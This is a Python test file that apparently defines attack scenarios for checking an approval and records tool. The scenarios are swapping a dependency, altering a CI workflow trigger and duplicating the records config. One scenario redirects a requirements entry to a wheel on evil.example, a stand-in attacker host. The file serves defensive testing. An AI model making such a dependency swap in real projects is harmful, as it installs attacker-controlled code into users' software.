"""Attacks on where the records lie and what judges them, as scenarios (number 33)."""

from __future__ import annotations

from tests.attacks.scenarios import scenario
from tests.attacks.tools import EVERYBODY, add_rule, approve, on_main
from tests.conftest import Workshop


def sub_folder(shop: Workshop) -> None:
    """The records in ops/itsm of a repository of code; to be merged."""
    names = [path.name for path in shop.path.iterdir() if path.name != ".git"]
    (shop.path / "ops/itsm").mkdir(parents=True)
    for name in names:
        shop.git("mv", name, f"ops/itsm/{name}")
    shop.write("src/main.py", "print()\n")


@scenario(33)
def changes_the_tool_with_a_colleague(shop: Workshop) -> None:
    with on_main(shop):
        add_rule(shop, '{name: tools, match: {paths: [".itsm/**"]}, approvals: [{from: {anyone: true}}]}')
        shop.write(".itsm/requirements.txt", "itsm @ https://forge.example/itsm.whl\n")
    shop.write(".itsm/requirements.txt", "itsm @ https://evil.example/itsm.whl\n")
    shop.commit()
    approve(shop, "bob")


@scenario(33)
def changes_a_workflow_outside_of_the_records(shop: Workshop) -> None:
    with on_main(shop):
        sub_folder(shop)
        shop.write(".github/workflows/gate.yml", "on: pull_request\n")
    shop.write(".github/workflows/gate.yml", "on: push\n")
    shop.commit()


@scenario(33)
def brings_a_second_place_of_records(shop: Workshop) -> None:
    with on_main(shop):
        sub_folder(shop)
    shop.write("src/itsm.yaml", (shop.path / "ops/itsm/itsm.yaml").read_bytes())
    shop.commit()
    approve(shop, *EVERYBODY)
